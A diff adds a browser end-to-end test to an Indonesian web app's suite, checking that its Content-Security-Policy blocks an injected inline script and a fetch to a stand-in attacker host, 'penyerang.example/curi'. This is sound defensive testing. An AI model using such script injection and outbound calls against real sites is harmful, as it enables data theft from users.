@@ -40,6 +40,32 @@ describe('web app: served by the api, first screens in a real browser', () => {
     expect(await manifest.json()).toMatchObject({ short_name: 'Pendamping', display: 'standalone' });
   });
 
+  it('runs under its Content-Security-Policy: the page works, an injected inline script and a foreign connection are refused', async () => {
+    const phone = await openPhone(stack);
+    const { page } = phone;
+    const violations: string[] = [];
+    page.on('console', (m) => {
+      if (/Content Security Policy/.test(m.text())) violations.push(m.text());
+    });
+    const response = await page.goto('/login');
+    expect(response!.headers()['content-security-policy']).toContain("script-src 'self';");
+    await page.getByRole('heading', { level: 1 }).first().waitFor();
+    const blocked = await page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.injected = true';
+      document.body.append(script);
+      const fetched = await fetch('https://penyerang.example/curi').then(
+        () => 'reached',
+        () => 'refused',
+      );
+      return { injected: (window as unknown as { injected?: boolean }).injected ?? false, fetched };
+    });
+    expect(blocked).toEqual({ injected: false, fetched: 'refused' });
+    expect(violations.some((v) => v.includes('script-src'))).toBe(true);
+    expect(violations.some((v) => v.includes('connect-src'))).toBe(true);
+    await phone.context.close();
+  });
+
   it('before login: the program and its upcoming workshops, the login and the registration form, in Indonesian, clean at 360 px', async () => {
     const phone = await openPhone(stack);
     const { page } = phone;
